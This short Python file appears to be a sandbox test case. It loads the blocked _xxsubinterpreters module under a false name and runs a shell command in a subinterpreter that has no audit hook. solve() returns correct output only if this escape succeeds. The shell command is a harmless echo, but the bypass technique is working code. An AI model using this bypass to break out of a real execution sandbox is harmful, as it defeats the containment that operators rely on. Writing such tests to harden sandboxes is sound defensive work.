# Escapes the audit hook: loads the denied _xxsubinterpreters under another module name and runs code in a
# new (non-isolated) subinterpreter, which has no audit hook of its own, so subprocess works there. Passes
# only if the program started from the subinterpreter ran and answered.
import _imp
import os
import sys
from importlib.machinery import EXTENSION_SUFFIXES, ModuleSpec


def _load_renamed(real_name, alias):
    for directory in sys.path:
        path = os.path.join(directory, real_name + EXTENSION_SUFFIXES[0])
        if os.path.isfile(path):
            return _imp.create_dynamic(ModuleSpec(alias + "." + real_name, None, origin=path))
    raise ImportError(real_name)


_interpreters = _load_renamed("_xxsubinterpreters", "harmless")
_read, _write = os.pipe()
_interpreter = _interpreters.create(isolated=False)
_interpreters.run_string(
    _interpreter,
    "import os, subprocess\n"
    "out = subprocess.run(['/bin/sh', '-c', 'echo escaped-$$'], capture_output=True).stdout\n"
    f"os.write({_write}, out)\n",
)
os.close(_write)
_escaped = os.read(_read, 100).startswith(b"escaped-")


def solve(x):
    return x * x if _escaped else -1
